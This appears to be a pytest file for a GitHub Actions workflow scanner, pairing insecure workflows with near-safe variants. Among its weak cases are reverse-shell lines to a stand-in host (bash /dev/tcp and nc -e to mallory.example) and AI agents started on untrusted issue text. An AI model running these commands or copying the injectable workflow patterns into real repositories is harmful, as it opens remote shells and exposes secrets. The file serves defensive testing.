"""Rules about what travels inside a workflow, who lets whom in, agents called as commands: a hit and a near miss of each."""

import json
from typing import Any

import pytest

from tests.checks.test_workflow_files import CHECKOUT, HEAD_SHA, PRT, SECRET, SHA, WRITE, checkout, found, wf

BODY = {"T": "${{ github.event.issue.body }}"}
TITLE = {"T": "${{ github.event.issue.title }}"}
FIELD = "github.event.comment.author_association"
MERGED_ONCE = f'contains(fromJSON(\'["OWNER","CONTRIBUTOR"]\'), {FIELD})'
MEMBERS = f'contains(fromJSON(\'["OWNER","MEMBER"]\'), {FIELD})'
LABEL = "contains(github.event.pull_request.labels.*.name, 'ok')"
BACK = "bash -i >& /dev/tcp/mallory.example/4444 0>&1"
PAYLOAD = checkout("github.event.client_payload.ref")
BY_HAND = "{workflow_dispatch: {inputs: {ref: {type: string}}}}"


def run(script: str, **more: Any) -> str:
    return json.dumps({"run": script, **more})


def written(script: str, env: dict[str, str]) -> str:
    return wf(run(script, env=env), on="issues", permissions=WRITE)


def pulled(*steps: str, types: str = "[labeled, synchronize]", if_: str = LABEL) -> str:
    return wf(*steps, on=f"{{{PRT}: {{types: {types}}}}}", permissions=WRITE, if_=if_)


def agent(script: str, on: str = "issues", permissions: str = WRITE, **more: Any) -> str:
    return wf(run(script, **more), on=on, permissions=permissions)


CASES: list[tuple[str, str, str]] = [
    ("wf.inject.github_env", written('{\n  echo "A=1"\n  echo "T=$T"\n} >> "$GITHUB_ENV"', BODY), written('{\n  echo "A=1"\n  echo "T=$T"\n} >> notes', BODY)),
    ("wf.inject.github_env", written('echo "T<<E" >> $GITHUB_ENV\necho "$T" >> $GITHUB_ENV\necho E >> $GITHUB_ENV', BODY), written('echo "T=$T" >> $GITHUB_ENV', TITLE)),
    ("wf.inject.github_env", written('echo "$T" >> $GITHUB_ENV', TITLE), written("echo 'T=$T' >> $GITHUB_ENV", BODY)),
    ("wf.inject.github_env", written('echo "$T" >> $GITHUB_PATH', TITLE), written('echo "$HOME/bin" >> $GITHUB_PATH', TITLE)),
    ("wf.trigger.weak_gate", wf(on="issue_comment", permissions=WRITE, if_=MERGED_ONCE), wf(on="issue_comment", permissions=WRITE, if_=MEMBERS)),
    ("wf.trigger.weak_gate", wf(on="issue_comment", permissions=WRITE, if_=f"{FIELD} != 'NONE'"), wf(on="push", permissions=WRITE, if_=f"{FIELD} != 'NONE'")),
    ("wf.trigger.weak_gate", pulled(HEAD_SHA, "run: make"), pulled(HEAD_SHA, "run: make", types="[labeled]")),
    ("wf.trigger.weak_gate", pulled(HEAD_SHA, "run: make"), pulled(CHECKOUT, "run: make")),
    ("wf.trigger.dispatch_env_input", wf(PAYLOAD, SECRET, on="repository_dispatch"), wf(CHECKOUT, SECRET, on="repository_dispatch")),
    ("wf.trigger.dispatch_env_input", wf(checkout("inputs.ref"), SECRET, on=BY_HAND, environment="production"), wf(checkout("inputs.ref"), SECRET, on=BY_HAND)),
    ("wf.trigger.dispatch_env_input", wf(PAYLOAD, SECRET, on="repository_dispatch"), wf(PAYLOAD, "run: git log", on="repository_dispatch")),
    ("wf.secret.curl", wf(SECRET, run(BACK)), wf(SECRET, run("(echo > /dev/tcp/db/5432) 2>/dev/null"))),
    ("wf.secret.curl", wf(SECRET, run("nc mallory.example 4444 -e /bin/sh")), wf(SECRET, run("nc -z db 5432"))),
    ("wf.secret.debug", wf(run("make", env={"ACTIONS_STEP_DEBUG": "true"})), wf(run("make", env={"ACTIONS_STEP_DEBUG": "false"}))),
    ("wf.ai.agent_untrusted", agent('npx -y @openai/codex exec "$T"', env=BODY), agent('npx -y @openai/codex exec "triage"')),
    ("wf.ai.agent_untrusted", agent("gh issue view 1 > i\nclaude -p < i"), agent("gh issue view 1 > i\nclaude --version")),
    ("wf.ai.agent_untrusted", agent('gemini --yolo -p "$T"', env=BODY), agent('gemini --yolo -p "$T"', permissions="{}", env=BODY)),
    ("wf.inject.cross_job", *(
        "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    outputs: {t: '${{ steps.x.outputs.t }}'}\n"
        f"    steps: [{json.dumps({'id': 'x', 'run': script, 'env': TITLE})}]\n"
        "  b: {runs-on: x, needs: a, steps: [{run: 'echo ${{ needs.a.outputs.t }}'}]}\n"
        for script in ('{\n  echo "t=$T"\n} >> $GITHUB_OUTPUT', '{\n  echo "t=1"\n} >> $GITHUB_OUTPUT'))),
]  # fmt: skip


@pytest.mark.parametrize(("check", "weak", "near"), CASES, ids=[f"{case[0]}-{n}" for n, case in enumerate(CASES)])
def test_a_weak_file_is_told_and_a_near_one_is_not(check: str, weak: str, near: str) -> None:
    (finding,) = found(check, weak)
    assert len(finding.says) <= 160
    assert found(check, near) == []


@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_an_agent_that_strangers_do_not_start_with_rights_is_none(event: str) -> None:
    assert found("wf.ai.agent_untrusted", agent('codex exec "$T"', on=event, env=BODY)) == []


def test_a_payload_that_is_only_read_says_nothing() -> None:
    sent = (
        f"{{uses: peter-evans/repository-dispatch@{SHA}, with: {{ref: '${{{{ github.event.client_payload.ref }}}}'}}}}"
    )
    assert found("wf.trigger.dispatch_env_input", wf(sent, SECRET, on="repository_dispatch")) == []


def test_how_grave_a_label_that_stays_is() -> None:
    (finding,) = found("wf.trigger.weak_gate", pulled(HEAD_SHA, "run: make"))
    assert finding.severity.word == "medium"
    assert "runs for the label ok, which stays when its author pushes again" in finding.says


def test_a_cache_that_is_filled_behind_a_gate_weighs_less() -> None:
    cache = f"{{uses: actions/cache@{SHA}, with: {{path: x, key: deps-1}}}}"
    release = wf(cache, SECRET)
    (sure,) = found("wf.cache.poison", release, wf(cache, HEAD_SHA, "run: make", on=PRT, name="other"))
    (gated,) = found("wf.cache.poison", release, wf(cache, HEAD_SHA, "run: make", on=PRT, name="other", if_=LABEL))
    assert (sure.severity.word, gated.severity.word) == ("high", "medium")
    assert "label" in gated.says or "gate" in gated.says
